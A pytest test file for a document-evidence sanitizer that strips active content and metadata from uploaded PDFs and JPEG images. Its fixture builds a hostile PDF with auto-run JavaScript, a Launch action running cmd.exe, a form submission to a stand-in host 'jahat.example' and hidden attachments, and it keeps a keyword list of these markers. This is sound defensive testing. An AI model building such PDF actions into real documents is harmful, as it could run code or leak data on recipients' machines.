"""Documents of evidence: the pages stay as they look; whatever acts, hides or tells of its maker is gone, or the document is refused."""

import hashlib
import io

import pypdf
import pytest
from apps.test_bukti import camera
from PIL import Image
from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject, NumberObject, TextStringObject

from pantau.apps.realisasi.baca_pdf import bare_jpeg, bare_jpx
from pantau.apps.realisasi.berkas_bukti import read_evidence
from pantau.core.masalah import DitolakError

RAHASIA = (b"JavaScript", b"OpenAction", b"alert", b"EmbeddedFile", b"Launch", b"/XFA", b"AcroForm", b"Metadata", b"Pembuat", b"cmd",
           b"SubmitForm", b"jahat", b"/AA", b"Producer", b"Exif", b"PieceInfo", b"lain", b"rahasia")  # fmt: skip


def named(**isi):
    return DictionaryObject({NameObject("/" + k): NameObject(v) if type(v) is str else v for k, v in isi.items()})


def stream(isi, **kepala):
    s = DecodedStreamObject()
    s.update(named(**kepala))
    s.set_data(isi)
    return s


def document(halaman=1, atas=lambda w, p: None):
    """A PDF with a photo (which carries EXIF), a text, a stamp, and everything that a hostile one may hold."""
    w = pypdf.PdfWriter()
    jpeg = camera(1, 1)
    foto = w._add_object(stream(jpeg, Type="/XObject", Subtype="/Image", Width=NumberObject(480), Height=NumberObject(360),
                                ColorSpace="/DeviceRGB", BitsPerComponent=NumberObject(8), Filter="/DCTDecode", Metadata=stream(b"Pembuat", Type="/Metadata", Subtype="/XML")))  # fmt: skip
    huruf = named(Type="/Font", Subtype="/Type1", BaseFont="/Helvetica")
    for n in range(halaman):
        p = w.add_blank_page(300, 200)
        # names of resources may be those of actions: they are names here
        p[NameObject("/Resources")] = named(XObject=named(A=foto, JS=foto), Font=named(F=huruf, AA=huruf))
        p[NameObject("/Contents")] = w._add_object(
            stream(b"q 100 0 0 75 10 10 cm /A Do Q BT /F 12 Tf 10 150 Td (Berita acara %d) Tj ET" % n)
        )
        p[NameObject("/AA")] = named(O=named(S="/JavaScript", JS=TextStringObject("app.alert(1)")))
        p[NameObject("/PieceInfo")] = named(X=named(Private=TextStringObject("isi rahasia")))
        cap = stream(b"0 0 20 20 re f", Type="/XObject", Subtype="/Form", BBox=ArrayObject(map(NumberObject, (0, 0, 20, 20))))
        kotak = ArrayObject(map(NumberObject, (200, 20, 220, 40)))
        aksi = named(S="/Launch", F=TextStringObject("cmd.exe"))
        p[NameObject("/Annots")] = ArrayObject(
            w._add_object(x)
            for x in (
                named(Type="/Annot", Subtype="/Widget", FT="/Sig", Rect=kotak, AP=named(N=w._add_object(cap)), A=aksi),
                named(Type="/Annot", Subtype="/Link", Rect=kotak, A=named(S="/URI", URI=TextStringObject("http://jahat.example"))),
                named(Type="/Annot", Subtype="/FileAttachment", Rect=kotak, AP=named(N=w._add_object(cap))),
                named(Type="/Annot", Subtype="/Stamp", Rect=kotak, F=NumberObject(2), AP=named(N=w._add_object(cap))),
            )
        )
    w.add_attachment("lain.pdf", b"isi rahasia")
    w._root_object["/Names"][NameObject("/JavaScript")] = named(
        Names=ArrayObject([TextStringObject("x"), named(S="/JavaScript", JS=TextStringObject("app.alert(2)"))])
    )
    w.add_metadata({"/Author": "Pembuat"})
    w._root_object[NameObject("/OpenAction")] = named(S="/SubmitForm", F=TextStringObject("http://jahat.example"))
    w._root_object[NameObject("/AcroForm")] = named(XFA=stream(b"<xfa/>"), Fields=ArrayObject())
    atas(w, w.pages[0] if halaman else None)
    b = io.BytesIO()
    w.write(b)
    return b.getvalue()


def refusal(isi):
    with pytest.raises(DitolakError) as e:
        read_evidence(isi)
    (m,) = e.value.masalah
    assert m.message
    return m.code


def test_a_document_keeps_its_pages_and_loses_what_acts_and_what_tells_of_its_maker():
    asal = document(2)
    assert [x for x in RAHASIA if x not in asal] == []
    b = read_evidence(asal)
    assert b.media == "application/pdf" and b.sidik is None and b.sha_asli == hashlib.sha256(asal).hexdigest() != b.sha256
    assert [x for x in RAHASIA if x in b.isi and x != b"/AA"] == []
    baru = pypdf.PdfReader(io.BytesIO(b.isi))
    assert [p.extract_text().strip() for p in baru.pages] == ["Berita acara 0", "Berita acara 1"]
    assert set(baru.trailer["/Root"]) == {"/Type", "/Pages"} and "/Info" not in baru.trailer
    for p in baru.pages:
        assert set(p) <= {
            "/Type",
            "/Parent",
            "/MediaBox",
            "/CropBox",
            "/Rotate",
            "/UserUnit",
            "/Resources",
            "/Contents",
            "/Group",
            "/Annots",
        }
        (cap,) = (a.get_object() for a in p["/Annots"])
        assert set(cap) == {"/Type", "/Subtype", "/F", "/Rect", "/AP"} and cap["/AP"]["/N"].get_data() == b"0 0 20 20 re f"
    gambar = baru.pages[0].images[0].image
    assert gambar.size == (480, 360) and dict(gambar.getexif()) == {}
    assert read_evidence(asal).sha256 == b.sha256  # the same document is the same evidence


def test_what_cannot_be_checked_by_others_or_is_none_is_refused():
    def lock(sandi, pemilik):
        return document(1, lambda w, p: w.encrypt(sandi, pemilik, algorithm="AES-256"))

    assert refusal(lock("rahasia", "x")) == "pdf_bersandi"
    b = read_evidence(lock("", "pemilik"))  # everybody may read it, only changing is locked
    assert "Berita acara 0" in pypdf.PdfReader(io.BytesIO(b.isi)).pages[0].extract_text()
    assert refusal(document(0)) == "pdf_halaman" and refusal(document(501)) == "pdf_halaman"
    for isi in (b"%PDF-1.7\n1 0 obj\n", b"%PDF-1.7 <script>alert(1)</script>", document()[:400], b"%PDF-" + b"\0" * 1000):
        assert refusal(isi) in ("foto_rusak", "pdf_halaman")


def test_a_document_that_eats_time_or_memory_is_refused():
    def circle(w, p):
        p[NameObject("/Contents")] = p[NameObject("/Resources")] = w._add_object(named(X=p.indirect_reference))

    assert pypdf.PdfReader(io.BytesIO(read_evidence(document(1, circle)).isi)).pages[0]["/MediaBox"][2] == 300
    dalam = b"%PDF-1.4\n1 0 obj\n" + b"[" * 200_000 + b"\nendobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    assert refusal(dalam) in ("foto_rusak", "bukti_berat", "pdf_halaman")


def test_broken_documents_never_raise_anything_else():
    import random

    r, asal, utuh = random.Random(5), document(2), 0
    for _ in range(80):
        rusak = bytearray(asal)
        for _ in range(r.randint(1, 30)):
            rusak[r.randrange(len(rusak))] = r.randrange(256)
        try:
            isi = read_evidence(bytes(rusak)).isi
        except DitolakError as e:
            assert e.masalah[0].code in ("foto_rusak", "pdf_halaman", "pdf_bersandi", "bukti_berat")
            continue
        utuh += 1
        assert not any(x in isi for x in (b"alert", b"cmd", b"jahat"))
    assert utuh > 10


@pytest.mark.parametrize("progresif", [False, True])
def test_a_jpeg_keeps_its_picture_and_nothing_behind_it(progresif):
    b = io.BytesIO()
    Image.open(io.BytesIO(camera(3, 1))).save(b, "JPEG", progressive=progresif, exif=b"Exif\0\0" + b"rahasia" * 9, comment=b"Pembuat")
    asal = b.getvalue() + camera(4)  # a second photo hides behind the first
    isi = bare_jpeg(asal)
    assert b"Exif" not in isi and b"Pembuat" not in isi and b"rahasia" not in isi and isi.count(b"\xff\xd8\xff") == 1
    assert Image.open(io.BytesIO(isi)).tobytes() == Image.open(io.BytesIO(asal)).tobytes()


def test_a_jpeg_2000_keeps_its_picture():
    b = io.BytesIO()
    Image.open(io.BytesIO(camera(3, 1))).resize((64, 64)).save(b, "JPEG2000")
    asal = b.getvalue()
    kotak = (8 + 7).to_bytes(4, "big") + b"uuid" + b"rahasia"
    di = asal.index(b"jp2c") - 4
    isi = bare_jpx(asal[:di] + kotak + asal[di:])
    assert isi == asal and bare_jpx(b"\xff\x4f\xff\x51" + b"x" * 40) == b"\xff\x4f\xff\x51" + b"x" * 40
